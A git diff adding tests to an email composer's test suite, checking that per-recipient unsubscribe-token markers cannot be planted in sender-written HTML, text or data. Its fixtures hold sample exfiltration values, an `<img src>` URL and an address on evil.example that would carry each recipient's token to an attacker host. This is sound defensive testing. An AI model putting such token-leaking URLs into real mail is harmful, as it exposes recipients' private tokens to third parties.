@@ -4,7 +4,9 @@ import { type NamedMailbox, parseMailbox } from '../../../src/core/address.ts'
 import { composeMessage } from '../../../src/mail/mime/compose.ts'
 import { scanMessage } from '../../../src/mail/mime/scan.ts'
 import { MergeTemplates } from '../../../src/mail/templates/merge.ts'
+import { ADDRESS_MARK, URL_MARK } from '../../../src/mail/tracking/way-out.ts'
 import { composeContent, type Draft } from '../../../src/services/submission/compose.ts'
+import { wayOutUrl } from '../../../src/services/submission/list-fields.ts'
 import { expectGolden } from '../../support/golden.ts'
 
 const named = (text: string, name: string | null = null): NamedMailbox => {
@@ -249,4 +251,37 @@ test('whatever is accepted may travel', () => {
     { numRuns: 2000 },
   )
   expect(accepted).toBeGreaterThan(50)
+})
+
+describe('what stands for a recipient’s own token', () => {
+  const wayOut = wayOutUrl('https://t.example', 'news')
+  const evil = `https://evil.example/?t=${URL_MARK}`
+  test.each([
+    ['html', { html: `<img src="${evil}">` }],
+    ['text', { text: evil }],
+    ['text', { text: `unsub+${ADDRESS_MARK}@evil.example` }],
+    ['data', { data: { [URL_MARK]: 1 } }],
+    ['data', { data: { comments: [{ by: 'ada', text: evil }] }, text: '{{ comments[0].text }}' }],
+  ])('is nobody else’s to write: in %s', (path, some) => {
+    const got = compose({ ...some, wayOut })
+    expect(got.ok).toBe(false)
+    if (!got.ok) expect(got.error.fields?.map((each) => each.path)).toEqual([path])
+  })
+
+  test('is looked for however deep data is', () => {
+    let deep: unknown = 'x'
+    for (let level = 0; level < 100_000; level++) deep = [deep]
+    expect(compose({ data: { deep }, wayOut }).ok).toBe(true)
+  })
+
+  test('is written by the variable, and is a word like any other in mail without a way out of ours', () => {
+    const { content } = composed({
+      text: '{{ unsubscribe_url }}',
+      data: { name: null, list: [1, 'a'] },
+      wayOut,
+    })
+    expect(content.parts.text).toBe(wayOut)
+    expect(composed({ text: evil }).content.parts.text).toBe(evil)
+    expect(composed({ text: evil, wayOut: 'https://own.example/u' }).content.parts.text).toBe(evil)
+  })
 })
